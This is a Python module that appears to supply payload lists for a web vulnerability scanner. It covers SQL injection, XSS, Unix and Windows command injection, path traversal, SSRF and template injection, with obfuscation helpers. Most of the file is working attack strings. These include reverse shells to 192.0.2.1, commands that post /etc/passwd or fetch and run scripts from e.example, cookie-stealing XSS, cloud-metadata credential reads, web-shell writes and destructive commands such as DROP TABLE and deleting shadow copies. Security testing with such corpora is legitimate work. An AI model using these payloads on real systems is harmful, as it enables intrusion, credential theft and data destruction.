"""Attacks by family: values that go into a place of a request, and whole requests."""

import base64
import re


def swap_case(value, chooser):
    return "".join(chooser.choice([c.upper(), c.lower()]) for c in value)


def tabs(value, _):
    return value.replace(" ", "\t")


def sql_comments(value, _):
    return value.replace(" ", "/**/")


def lines(value, _):
    return value.replace(" ", "\n")


def entities(value, _):
    return "".join(f"&#{ord(c)};" if c in "<>\"'():" else c for c in value)


def hex_entities(value, _):
    return re.sub("[<>:]", lambda m: f"&#x{ord(m[0]):x};", value)


def twice(value, _):
    import urllib.parse
    return urllib.parse.quote(value, safe="")


def empty_quotes(value, _):
    return re.sub(r"\b(cat|whoami|curl|wget|uname|ls)\b", lambda m: m[0][0] + "''" + m[0][1:], value)


def ifs(value, _):
    return re.sub(r"(?<=\w) (?=[/\w-])", "${IFS}", value)


SQL = """
' OR '1'='1
' OR 1=1--
' OR 1=1#
' OR 1=1/*
') OR ('1'='1
') OR 1=1--
" OR "1"="1
" OR 1=1--
1 OR 1=1
1) OR (1=1
1 OR 'a'='a'
admin'--
admin' #
admin'/*
admin' OR '1'='1'#
admin') OR ('1'='1'--
' OR ''='
' OR 'x'='x
' OR true--
1' OR 2>1 --
' OR 7 LIKE 7 --
x' AND email IS NULL; --
x' AND 1=(SELECT COUNT(*) FROM tabname); --
x' OR full_name LIKE '%Bob%
1 AND 1=1
1 AND 1=2
1' AND '1'='2
1 AND (SELECT 1)=1
1' AND SLEEP(5)--
1 AND SLEEP(5)
1' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--
1-SLEEP(5)
1;SELECT PG_SLEEP(5)
1' || pg_sleep(5)--
'; WAITFOR DELAY '0:0:5'--
1; WAITFOR DELAY '00:00:05'
1 WAITFOR DELAY '0:0:10'
1 AND BENCHMARK(5000000,MD5(1))
1' AND DBMS_PIPE.RECEIVE_MESSAGE('a',5)='a
1 AND 1337=(SELECT 1337 FROM PG_SLEEP(5))
if(now()=sysdate(),sleep(6),0)
0'XOR(if(now()=sysdate(),sleep(6),0))XOR'Z
(select(0)from(select(sleep(6)))v)
1 UNION SELECT NULL
1 UNION SELECT NULL,NULL,NULL--
1 UNION ALL SELECT 1,2,3,4
-1 UNION SELECT username,password FROM users
' UNION SELECT @@version--
' UNION ALL SELECT table_name,2 FROM information_schema.tables--
1' UNION SELECT 1,group_concat(schema_name) FROM information_schema.schemata#
-1' UNION SELECT 1,load_file('/etc/passwd'),3-- -
999 UNION SELECT 1,'<?php system($_GET[0]);?>' INTO OUTFILE '/var/www/s.php'
1 UNION SELECT name FROM sqlite_master
1 UNION SELECT banner FROM v$version
1 UNION(SELECT 1,2)
1 UNION DISTINCT SELECT 1
1' UNION VALUES(1,2)--
1; DROP TABLE users
'; DROP TABLE users--
'; DELETE FROM orders; --
1; INSERT INTO users VALUES('x','y')
'; UPDATE users SET password='x' WHERE name='admin'--
'; EXEC xp_cmdshell('dir')--
'; EXEC master..xp_dirtree '//192.0.2.1/a'--
1; EXEC sp_configure 'show advanced options',1
1; SHUTDOWN --
'; CREATE USER a IDENTIFIED BY 'b'--
1; COPY cmd FROM PROGRAM 'id'
1; DECLARE @x varchar(99); SET @x=0x64; EXEC(@x)
1'; TRUNCATE TABLE logs--
1 ORDER BY 10--
1' ORDER BY 3#
1 GROUP BY 1,2--
' HAVING 1=1--
' GROUP BY users.id HAVING 1=1--
1 LIMIT 0,1 PROCEDURE ANALYSE(EXTRACTVALUE(1,CONCAT(0x3a,VERSION())),1)
1 AND EXTRACTVALUE(1,CONCAT(0x7e,VERSION()))
1' AND UPDATEXML(1,CONCAT(0x7e,(SELECT user())),1)--
1 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(VERSION(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)
1 AND EXP(~(SELECT * FROM (SELECT USER())a))
1 AND 1=CONVERT(INT,(SELECT @@version))
1 AND 1=CAST((SELECT version()) AS INT)
1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64
1' AND ASCII(SUBSTR(USER(),1,1))=114--
1 AND (SELECT LENGTH(database()))=5
1 AND ORD(MID(VERSION(),1,1))>52
1' AND (SELECT 'a' FROM users WHERE username='admin')='a
1 AND EXISTS(SELECT * FROM users)
1 AND 1=(SELECT COUNT(*) FROM sysobjects)
1 AND CHAR(65)=CHAR(65)
1' AND 1=1 AND 'a'='a
1 RLIKE (SELECT (CASE WHEN (1=1) THEN 1 ELSE 0x28 END))
1 AND (CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1
'||(SELECT password FROM users LIMIT 1)||'
'||UTL_HTTP.REQUEST('http://192.0.2.1/'||USER)||'
' AND 1=UTL_INADDR.GET_HOST_ADDRESS((SELECT USER FROM DUAL))--
'+(SELECT 1)+'
'-(SELECT 1)-'
'||'a'='a
' LIKE '%
'=''--
'='
'-'
'*'
'-0||'
'&&'1'='1
' || 1=1 #
1||1=1
1&&1=1
1 XOR 1=2
1 DIV 0
1 OR 1 IN (1,2)
1 OR 1 BETWEEN 0 AND 2
1 OR NOT FALSE
1 OR 1 IS NOT NULL
' OR username IS NOT NULL--
' OR 1 -- -
' OR 1=1 LIMIT 1 -- -
" OR ""="
") OR ("a")=("a
')) OR (('x'))=(('x
1 AND 5650=CONVERT(INT,(SELECT CHAR(113)+CHAR(118)))
1 AND 3516=CAST((CHR(113)||CHR(106)) AS NUMERIC)
1 /*!50000UNION*/ /*!50000SELECT*/ 1,2
1 /*!UNION*/ SELECT 1
1e0UNION SELECT 1,2
1.0UNION SELECT 1
-1'UNION SELECT 1#
1%0AUNION%0ASELECT%0A1
1 un/**/ion se/**/lect 1
1 UNUNIONION SELSELECTECT 1
{"id":"1' OR '1'='1"}
name' AND extractvalue(rand(),concat(0x3a,version()))--
1 AND GTID_SUBSET(CONCAT(0x7e,VERSION()),1)
1 AND JSON_KEYS((SELECT CONVERT((SELECT USER()) USING utf8)))
1 PROCEDURE ANALYSE()
1 INTO DUMPFILE '/tmp/a'
x'; ATTACH DATABASE '/var/www/a.php' AS a; --
1 AND RANDOMBLOB(1000000000/2)
1 AND LOAD_EXTENSION('//192.0.2.1/a.dll')
case when 1=1 then 1 else 2 end
1 or sleep(5)#
1' or benchmark(10000000,MD5(1))#
1) and sleep(5)--
%' AND 1=0 UNION SELECT 1 AND '%'='
a' or 3=3--
test' or user like '%admin%
1 and (select count(*) from all_users) > 0
1;select+1
';select 1;--
1 in (select 1)
""".strip().split("\n")

XSS = r"""
<script>alert(1)</script>
<script>alert(document.cookie)</script>
<script src=//e.example/x.js></script>
<script src="https://e.example/x.js"></script>
<ScRiPt>prompt(1)</sCrIpT>
<script>eval(atob('YWxlcnQoMSk='))</script>
<script
>alert(1)</script
>
<script/x>alert(1)</script>
<script>window.location='//e.example/?c='+document.cookie</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
--><script>alert(1)</script>
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
'"><svg/onload=confirm(1)>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src='x' onerror='alert(1)'>
<img src=x onerror=alert`1`>
<img/src=x/onerror=alert(1)>
<img src="x:gif" onerror="eval('al'+'ert(1)')">
<img src=x:x onerror=&#97;lert(1)>
<img src=1 href=1 onerror="javascript:alert(1)"></img>
<image src=x onerror=alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg onload=alert&lpar;1&rpar;>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)>
<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">X</text></a>
<svg><use href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>
<svg><foreignObject><body onload=alert(1)>
<body onload=alert(1)>
<body onpageshow=alert(1)>
<body background="javascript:alert(1)">
<iframe src=javascript:alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<iframe onload=alert(1)>
<iframe src="data:text/html,<script>alert(1)</script>">
<object data="javascript:alert(1)">
<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">
<embed src="javascript:alert(1)">
<embed src="//e.example/x.swf" allowscriptaccess=always>
<a href="javascript:alert(1)">x</a>
<a href="java&#x09;script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a onmouseover=alert(1)>x</a>
<form action="javascript:alert(1)"><input type=submit>
<form><button formaction="javascript:alert(1)">X</button>
<isindex action="javascript:alert(1)" type=image>
<input onfocus=alert(1) autofocus>
<input type="image" src="x" onerror="alert(1)">
<select onfocus=alert(1) autofocus>
<textarea onfocus=alert(1) autofocus>
<keygen onfocus=alert(1) autofocus>
<video><source onerror="alert(1)">
<video src=x onerror=alert(1)>
<audio src=x onerror=alert(1)>
<video poster=javascript:alert(1)//>
<details open ontoggle=alert(1)>
<details ontoggle="alert(1)" open>
<marquee onstart=alert(1)>
<marquee loop=1 width=0 onfinish=alert(1)>x</marquee>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">
<base href="javascript:alert(1)//">
<base href=//e.example/>
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=stylesheet href="javascript:alert(1)">
<style>@import 'javascript:alert(1)';</style>
<style>li {list-style-image: url("javascript:alert(1)");}</style>
<div style="background-image:url(javascript:alert(1))">
<div style="width:expression(alert(1))">
<div onpointerover="alert(1)">x</div>
<div onanimationstart=alert(1) style="animation-name:x">
<p onclick=alert(1)>x
<b onmouseover=alert(1)>x</b>
<x onclick=alert(1)>x
<xss onpointerrawupdate=alert(1) style=display:block>x</xss>
<math href="javascript:alert(1)">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<table background="javascript:alert(1)">
<td background=javascript:alert(1)>
<applet code="javascript:confirm(1)">
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<dialog open onclose=alert(1)>
<object onerror=alert(1)>
<frameset onload=alert(1)>
<layer src="javascript:alert(1)">
<bgsound src="javascript:alert(1)">
<xml onreadystatechange=alert(1)>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1);//<</script>
<img ""><script>alert(1)</script>">
<a/href="javascript:alert(1)">x
" onmouseover="alert(1)
" onfocus=alert(1) autofocus="
' onmouseover='alert(1)
x" onerror=alert(1) y="
" autofocus onfocus=alert(1) x="
'onmouseover=alert(1)//
" style="animation-name:x" onanimationstart="alert(1)
';alert(1)//
";alert(1)//
'-alert(1)-'
"-alert(1)-"
'+alert(1)+'
\';alert(1)//
');alert(1)//
"});alert(1);//
'}alert(1);{'
";document.location='//e.example/?'+document.cookie;//
';fetch('//e.example/?'+document.cookie)//
</script><svg onload=alert(1)>
javascript:alert(1)
javascript:alert(document.cookie)
JaVaScRiPt:alert(1)
java%0ascript:alert(1)
javascript://%0aalert(1)
javascript:eval('al'+'ert(1)')
javascript:/*--></title></style></textarea></script><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>
vbscript:msgbox(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]
window['alert'](1)
self["al"+"ert"](1)
top[/al/.source+/ert/.source](1)
eval(String.fromCharCode(97,108,101,114,116,40,49,41))
new Function`alert\`1\``
setTimeout('alert(1)')
document.write('<img src=x>')
location='javascript:alert(1)'
document.location.href='//e.example/'+document.cookie
${alert(1)}
<img src=x onerror=this.src='//e.example/?c='+document.cookie>
<img src=`x` onerror=alert(1)>
<svg/onload=location=`javas`+`cript:ale`+`rt%2`+`81%2`+`9`>
<img src onerror=\u0061lert(1)>
<svg onload=\u{61}lert(1)>
＜script＞alert(1)＜/script＞
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<iframe src="//e.example/x.html"></iframe>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<style>*{background:url(//e.example/?a)}</style>
<link rel=stylesheet href=//e.example/x.css>
<img src=//e.example/pixel.gif?cookie= onload=this.src+=document.cookie>
<body onhashchange=alert(1)><a href=#x>x</a>
<input type=hidden oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>
<button popovertarget=x>x</button><xss onbeforetoggle=alert(1) popover id=x>
""".strip("\n").split("\n")
XSS = [v for v in XSS if v and v not in (">alert(1)</script", ">", "<script")] + ["<script\n>alert(1)</script\n>"]

UNIX = r"""
; cat /etc/passwd
;cat /etc/passwd
| cat /etc/passwd
|cat /etc/passwd
|| cat /etc/passwd
& cat /etc/passwd
&& cat /etc/passwd
`cat /etc/passwd`
$(cat /etc/passwd)
; id
;id;
| id
|id
||id
&& id
`id`
$(id)
; whoami
| whoami
`whoami`
$(whoami)
; uname -a
| uname -a
; ls -la
| ls -l /
;ls
&& ls
; pwd
; ps aux
; env
; ifconfig
; netstat -an
127.0.0.1; ls
127.0.0.1 && whoami
127.0.0.1 | id
127.0.0.1|id
8.8.8.8; cat /etc/shadow
a.example; wget http://e.example/x.sh
; wget http://e.example/x.sh -O /tmp/x
; curl http://e.example/x | sh
| curl -d @/etc/passwd http://e.example
; curl e.example
; nslookup e.example
`nslookup e.example`
$(nslookup x.e.example)
; dig e.example
; ping -c 5 127.0.0.1
| ping -c 10 127.0.0.1
& ping -c 5 127.0.0.1 &
; sleep 5
| sleep 10
$(sleep 5)
`sleep 5`
&& sleep 5
|| sleep 5
; nc -e /bin/sh 192.0.2.1 4444
; nc 192.0.2.1 4444 -e /bin/bash
; bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'
; python -c 'import socket,os,pty;s=socket.socket()'
; python3 -c 'import os;os.system("id")'
; perl -e 'use Socket;'
; perl -e 'print "x"'
; php -r 'system("id");'
; ruby -rsocket -e 'exit'
; rm -rf /tmp/x
; rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f
; chmod 777 /tmp/x
; echo vulnerable
| echo test
; echo $PATH
; echo "x" > /var/www/html/x.php
; touch /tmp/pwned
; mkdir /tmp/x
; cp /etc/passwd /tmp/
; tail -n 5 /etc/passwd
; head /etc/passwd
; more /etc/passwd
; less /etc/passwd
; grep root /etc/passwd
; find / -name id_rsa
; awk '{print}' /etc/passwd
; sed -n 1p /etc/passwd
; base64 /etc/passwd
; xxd /etc/passwd
; tac /etc/passwd
; nl /etc/passwd
; od -c /etc/passwd
; strings /etc/passwd
; sort /etc/passwd
; tee /tmp/x
; crontab -l
; kill -9 1
; reboot
; shutdown -h now
; /bin/cat /etc/passwd
; /usr/bin/id
/bin/cat /etc/passwd
/usr/bin/id
/bin/bash -c id
;/???/??t /???/p??s??
/bin/c?t /etc/p?sswd
/???/n? -e /???/b??h 192.0.2.1 1337
c'a't /etc/passwd;
; c"a"t /etc/passwd
; c\at /etc/passwd
; w'h'o'am'i
; w\ho\am\i
; who$@ami
; $(echo cat) /etc/passwd
;cat${IFS}/etc/passwd
;cat$IFS/etc/passwd
cat$IFS$9/etc/passwd
;{cat,/etc/passwd}
{ls,-la,/}
;cat</etc/passwd
cat</etc/passwd
;cat<>/etc/passwd
;IFS=,;`cat<<<uname,-a`
;X=$'cat\x20/etc/passwd'&&$X
;a=c;b=at;$a$b /etc/passwd
;echo Y2F0IC9ldGMvcGFzc3dk | base64 -d | sh
;bash<<<$(base64 -d<<<aWQ=)
;$(printf 'id')
;$(rev<<<'di')
;eval $(echo aWQ=|base64 -d)
;${PATH:0:1}bin${PATH:0:1}id
"; cat /etc/passwd #
'; cat /etc/passwd #
"; id; echo "
'; id; echo '
"|id|"
'|id|'
"&&id&&"
";sleep 5;"
x;id;
x|id
x&&id
x||id
test;whoami
test|whoami
test`whoami`
test$(whoami)
a)|id
a);id
x %0a id
|/usr/bin/id|
;system('/usr/bin/id')
() { :; }; /bin/bash -c "id"
--checkpoint-action=exec=sh shell.sh
-oProxyCommand=;id
--output-document=/var/www/x.php
--upload-pack=id
LD_PRELOAD=/tmp/x.so
;sudo cat /etc/shadow
;su -c id
; systemctl stop nginx
; useradd -m hacker
; iptables -F
; cd /tmp; wget http://192.0.2.1/bins.sh; chmod 777 bins.sh
; busybox wget http://192.0.2.1/x
; tftp -g -r x 192.0.2.1
; ssh user@192.0.2.1
; telnet 192.0.2.1 4444
; socat tcp:192.0.2.1:4444 exec:/bin/sh
; lua -e 'os.execute("id")'
; node -e 'require("child_process")'
; openssl s_client -connect 192.0.2.1:443
; tar cf /dev/null x --checkpoint=1
<!--#exec cmd="id"-->
<(cat /etc/passwd)
>(id)
;printf 'x'
;expr 1 + 1
;set
;history
;w
;uptime
;df -h
;mount
;last
;hostname
;dmesg
;lsof -i
""".strip("\n").split("\n")
UNIX += ["x\nid\n", "127.0.0.1\ncat /etc/passwd", "a\n/bin/cat /etc/passwd", "x\r\nwhoami", "test\nuname -a\n"]

WINDOWS = r"""
& dir
&dir
| dir C:\
&& dir c:\users
& type C:\Windows\win.ini
| type %SYSTEMROOT%\win.ini
& ipconfig /all
| ipconfig
&& whoami
| whoami /priv
& net user
& net user hacker P4ss /add
& net localgroup administrators
| net view
& systeminfo
& tasklist
| tasklist /svc
& netstat -ano
& ping -n 10 127.0.0.1
|ping -n 5 127.0.0.1
& timeout /t 10
& nslookup e.example
& ver
& set
& hostname
& echo %USERNAME%
| echo vulnerable
& cmd /c dir
cmd.exe /c whoami
cmd /c "ping 127.0.0.1"
%COMSPEC% /c dir
& powershell -c "Get-Process"
powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA
powershell.exe -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://e.example/x.ps1')"
powershell Invoke-WebRequest -Uri http://e.example/x.exe -OutFile x.exe
IEX (New-Object Net.WebClient).DownloadString('http://e.example')
Invoke-Expression (Get-Content x)
; Get-ChildItem -Path C:\
| Get-Process
$(Invoke-WebRequest http://e.example)
Start-Process calc.exe
; Start-Sleep -s 10
Set-ExecutionPolicy Bypass -Scope Process
& certutil -urlcache -split -f http://e.example/x.exe
& bitsadmin /transfer x http://e.example/x c:\x
& mshta http://e.example/x.hta
& rundll32 javascript:"\..\mshtml,RunHTMLApplication "
& regsvr32 /s /n /u /i:http://e.example/x.sct scrobj.dll
& wmic process list
& wmic os get caption
& reg query HKLM\Software
& schtasks /create /tn x /tr calc
& sc query
& copy c:\x c:\y
& del /f /q c:\x
& move a.txt b.txt
& attrib +h c:\x
& findstr /si password *.txt
& vssadmin delete shadows /all
& taskkill /f /im x.exe
& netsh advfirewall set allprofiles state off
w^h^o^a^m^i
& w^ho^am^i
%PATH:~0,1%
& for /f %i in ('whoami') do echo %i
x" & whoami & "
x' & dir & '
" & ping -n 5 127.0.0.1 & "
| certutil -hashfile x
& cscript x.vbs
& curl http://e.example/x -o x.exe
& start calc
& rmdir /s /q c:\x
& icacls c:\x /grant everyone:f
& query user
| more c:\windows\win.ini
&& net use z: \\192.0.2.1\share
\\192.0.2.1\share\x.exe
[System.Net.Dns]::GetHostAddresses('e.example')
[Convert]::FromBase64String('QQ==')
$env:USERNAME
& msiexec /q /i http://e.example/x.msi
& forfiles /p c:\windows /m notepad.exe /c calc
& pathping 127.0.0.1
| tree c:\
""".strip("\n").split("\n")

TRAVERSAL = r"""
../../../etc/passwd
../../../../../../etc/passwd
..\..\..\windows\win.ini
../../../../windows/win.ini
....//....//....//etc/passwd
....\/....\/etc/passwd
..././..././etc/passwd
..;/..;/..;/etc/passwd
..%2f..%2f..%2fetc%2fpasswd
..%252f..%252f..%252fetc%252fpasswd
%2e%2e%2f%2e%2e%2fetc%2fpasswd
%252e%252e%252f%252e%252e%252f
..%c0%af..%c0%afetc/passwd
%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
..%5c..%5cwindows%5cwin.ini
..%255c..%255cboot.ini
%uff0e%uff0e%u2215%uff0e%uff0e%u2215etc
..%u2215..%u2215etc/passwd
/etc/passwd
/etc/shadow
/etc/hosts
/etc/group
/etc/issue
/etc/mysql/my.cnf
/etc/nginx/nginx.conf
/etc/apache2/apache2.conf
/etc/crontab
/etc/ssh/sshd_config
/etc/hostname
/etc/resolv.conf
/proc/self/environ
/proc/self/cmdline
/proc/self/fd/0
/proc/version
/proc/1/maps
/var/log/apache2/access.log
/var/log/auth.log
/var/www/html/config.php
/root/.ssh/id_rsa
/root/.bash_history
/home/user/.ssh/authorized_keys
/home/www/.aws/credentials
/var/run/secrets/kubernetes.io/serviceaccount/token
C:\Windows\win.ini
C:\windows\system32\drivers\etc\hosts
c:/boot.ini
C:\inetpub\wwwroot\web.config
c:\windows\repair\sam
file:///etc/passwd
file:///c:/windows/win.ini
file://localhost/etc/passwd
php://filter/convert.base64-encode/resource=index.php
php://filter/read=string.rot13/resource=config.php
php://input
zip://shell.jpg%23payload.php
phar://shell.jpg/x.php
expect://id
data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+
data:text/plain,<?php phpinfo();?>
glob:///etc/*
compress.zlib://etc/passwd
/etc/passwd%00
../../../etc/passwd%00.jpg
/etc/./passwd
//etc//passwd
/./etc/./passwd
/%2e%2e/%2e%2e/etc/passwd
images/../../../etc/passwd
/var/www/images/../../../etc/passwd
..//..//..//etc//passwd
..///////..////..//////etc/passwd
/../../../../../../../../../../etc/passwd
\..\..\..\boot.ini
\\..\\..\\..\\windows\\win.ini
/%5c..%5c..%5cwindows/win.ini
.%00./.%00./etc/passwd
../../../../proc/self/environ
../../../app/config/database.yml
../../.env
../../../../../../../../../../../../etc/hosts
../../WEB-INF/web.xml
../../../wp-config.php
..%2f..%2f..%2f..%2fvar%2flog%2fapache2%2ferror.log
""".strip("\n").split("\n")
TRAVERSAL_PATHS = r"""
/../../../etc/passwd
/static/../../../etc/passwd
/static/..%2f..%2f..%2fetc/passwd
/static/%2e%2e/%2e%2e/etc/passwd
/..%252f..%252f..%252fetc/passwd
/cgi-bin/.%2e/.%2e/.%2e/bin/sh
/icons/.%%32%65/.%%32%65/etc/passwd
/..;/..;/manager/html
/app/..;/admin
/static/..%5c..%5c..%5cwindows/win.ini
/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd
/.git/config
/.git/HEAD
/.svn/entries
/.env
/api/.env
/.env.production
/.aws/credentials
/.ssh/id_rsa
/.htpasswd
/.htaccess
/.DS_Store
/.bash_history
/.npmrc
/.docker/config.json
/.kube/config
/wp-config.php.bak
/wp-config.php~
/wp-config.php.save
/web.config
/WEB-INF/web.xml
/META-INF/maven/pom.xml
/server-status
/server-info
/phpinfo.php
/actuator/env
/actuator/heapdump
/actuator/gateway/routes
/jolokia/list
/id_rsa
/docker-compose.yml
/terraform.tfstate
/.vscode/sftp.json
/adminer.php
/.hg/requires
/etc/passwd
/proc/self/environ
/index.php.bak
/backup.sql
/dump.sql.gz
/database.sqlite
/config.php.old
/site.tar.gz.bak
/private.key
""".strip("\n").split("\n")

SSRF = r"""
http://169.254.169.254/latest/meta-data/
http://169.254.169.254/latest/meta-data/iam/security-credentials/
http://169.254.169.254/computeMetadata/v1/
http://169.254.169.254/metadata/instance?api-version=2021-02-01
http://metadata.google.internal/computeMetadata/v1/instance/
http://100.100.100.200/latest/meta-data/
http://[fd00:ec2::254]/latest/meta-data/
http://instance-data/latest/meta-data
http://2852039166/latest/meta-data/
http://0xa9fea9fe/latest/meta-data/
http://0251.0376.0251.0376/latest/meta-data/
http://0xA9.0xFE.0xA9.0xFE/
http://[::ffff:169.254.169.254]/
http://[::ffff:a9fe:a9fe]/
http://169.254.169.254.nip.io/
http://127.0.0.1/
http://127.0.0.1:80/admin
http://127.0.0.1:8080
http://127.0.0.1:22
http://127.0.0.1:6379
http://127.0.0.1:9200/_search
http://localhost/
http://localhost:8080/manager/html
http://localhost:2375/containers/json
http://LOCALHOST/admin
https://localhost/
http://127.1/
http://127.0.1/
http://0/
http://0.0.0.0/
http://0.0.0.0:8000/
http://2130706433/
http://0x7f000001/
http://0x7f.0x0.0x0.0x1/
http://0177.0.0.1/
http://017700000001/
http://127.127.127.127/
http://[::1]/
http://[::]:80/
http://[0:0:0:0:0:0:0:1]/
http://[::ffff:127.0.0.1]/
http://[::ffff:7f00:1]/
http://[0000::1]:3306/
http://localtest.me/
http://127.0.0.1.nip.io/
http://customer-127-0-0-1.nip.io/
http://spoofed.localtest.me/
http://①②⑦.⓪.⓪.①/
http://ⓛⓞⓒⓐⓛⓗⓞⓢⓣ/
http://127%2e0%2e0%2e1/
http://%6c%6f%63%61%6c%68%6f%73%74/
http://example.com@127.0.0.1/
http://example.com:80@127.0.0.1/
http://user:pass@localhost/
http://127.0.0.1#@example.com/
http://127.0.0.1?.example.com
http://example.com#@127.0.0.1/
http://127.0.0.1%23.example.com/
//127.0.0.1/admin
//localhost/
\\127.0.0.1\share
http:127.0.0.1/
http:/127.0.0.1/
http:///127.0.0.1/
http:\\127.0.0.1\
http://192.168.0.1/
http://192.168.1.1/admin
http://10.0.0.1/
http://10.0.0.5:8080/internal
http://172.16.0.1/
http://172.31.255.1:9000/
http://kubernetes.default.svc/api/v1/
http://db.default.svc.cluster.local:5432/
http://host.docker.internal:2375/
gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall
gopher://127.0.0.1:25/_HELO%20localhost
dict://127.0.0.1:11211/stats
dict://localhost:6379/info
file:///etc/passwd
file:///proc/self/environ
ftp://127.0.0.1/
sftp://e.example:11111/
tftp://e.example:12346/x
ldap://127.0.0.1:389/%0astats
ldap://e.example/x
netdoc:///etc/passwd
jar:http://127.0.0.1!/
http://e.example/shell.txt?
http://e.example/c99.php?
http://192.0.2.1/shell.php
http://192.0.2.1:8000/x.txt
https://e.example/evil.txt%00
ftp://e.example/shell.php
http://abc123.oastify.com/
http://x.interact.sh/
http://abc.burpcollaborator.net
http://x.dnslog.cn/
169.254.169.254
http://rancher-metadata/latest/
http://192.0.0.192/latest/
http://metadata.tencentyun.com/latest/meta-data/
http://127.0.0.1:5000/api/v1/../admin
""".strip("\n").split("\n")

SSTI = r"""
{{7*7}}
{{7*'7'}}
{{ 7 * 7 }}
${7*7}
${{7*7}}
#{7*7}
*{7*7}
<%= 7*7 %>
<%=7*7%>
@(7*7)
{7*7}
[[${7*7}]]
{{7*7}}[[3*3]]
${{<%[%'"}}%\
{{config}}
{{config.items()}}
{{self}}
{{request}}
{{settings.SECRET_KEY}}
{{''.__class__}}
{{''.__class__.__mro__[1].__subclasses__()}}
{{''.__class__.__mro__[2].__subclasses__()[40]('/etc/passwd').read()}}
{{[].__class__.__base__.__subclasses__()}}
{{().__class__.__bases__[0].__subclasses__()}}
{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}
{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{{ joiner.__init__.__globals__.os.popen('id').read() }}
{{ lipsum.__globals__['os'].popen('id').read() }}
{{ url_for.__globals__ }}
{{ get_flashed_messages.__globals__ }}
{{request|attr('application')|attr('\x5f\x5fglobals\x5f\x5f')}}
{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}
{% import os %}{{ os.system('id') }}
{% debug %}
{{ dump(app) }}
{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}
{{['id']|filter('system')}}
{{['id',""]|sort('system')}}
{{['cat /etc/passwd']|map('system')|join}}
{{app.request.server.all|join(',')}}
{{'/etc/passwd'|file_excerpt(1,30)}}
{php}echo `id`;{/php}
{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,"<?php passthru($_GET['cmd']); ?>",self::clearConfig())}
{system('id')}
{$smarty.version}
<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}
${"freemarker.template.utility.Execute"?new()("id")}
[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}
#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))
#set($e="e");$e.getClass().forName("java.lang.Runtime").getMethod("getRuntime",null)
${T(java.lang.Runtime).getRuntime().exec('id')}
${T(java.lang.System).getenv()}
*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}
__${T(java.lang.Runtime).getRuntime().exec("id")}__::.x
${''.getClass().forName('java.lang.Runtime')}
${pageContext.request.getSession()}
#{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}
<%= system('id') %>
<%= `id` %>
<%= File.open('/etc/passwd').read %>
<%= Dir.entries('/') %>
#{ %x|id| }
#{`id`}
- var x = root.process; x = x.mainModule.require
#{root.process.mainModule.require('child_process').spawnSync('id').stdout}
{{constructor.constructor('alert(1)')()}}
{{$on.constructor('alert(1)')()}}
{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(1)')()}}
{{#with "s" as |string|}}{{#with "e"}}{{lookup string.sub "constructor"}}{{/with}}{{/with}}
{{range.constructor("return global.process.mainModule.require('child_process').execSync('id')")()}}
{{global.process.mainModule.require('child_process').execSync('id')}}
${process.env}
${require('child_process').execSync('id')}
@{System.Diagnostics.Process.Start("cmd.exe","/c dir");}
@(System.IO.File.ReadAllText("c:/windows/win.ini"))
<%= GetType().Assembly %>
${self.module.cache.util.os.system("id")}
<% import os x=os.popen('id').read() %>${x}
{{.System.Env}}
